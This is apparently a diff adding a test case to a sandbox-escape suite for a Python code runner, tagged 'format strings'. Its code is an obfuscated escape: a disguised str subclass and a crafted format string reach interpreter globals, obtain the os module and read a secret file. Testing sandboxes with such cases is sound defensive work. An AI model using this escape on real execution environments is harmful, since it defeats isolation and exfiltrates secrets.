@@ -1,0 +1,22 @@
+# class: format strings
+# technique: a str subclass whose methods show a harmless template
+# layers: landlock, seccomp, identity
+# code: user
+# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+import operator
+def caught(run):
+    try:
+        run()
+    except AttributeError as error:
+        return operator.attrgetter(host["mark"][:0].join(["o", "bj"]))(error)
+u = chr(95) * 2
+template = "".join(["{0.", u, "init", u, ".", u, "glo", "bals", u, "[sys].nothing}"])
+def kind(x):
+    return classmethod(lambda c: c).__get__(x)()
+Shown = kind(int)('Shown', (str,), {'__str__': lambda self: '', '__iter__': lambda self: iter(''), 'replace': lambda self, *a: ''})
+g = {"sys": caught(lambda: Shown(template).format(quit))}
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
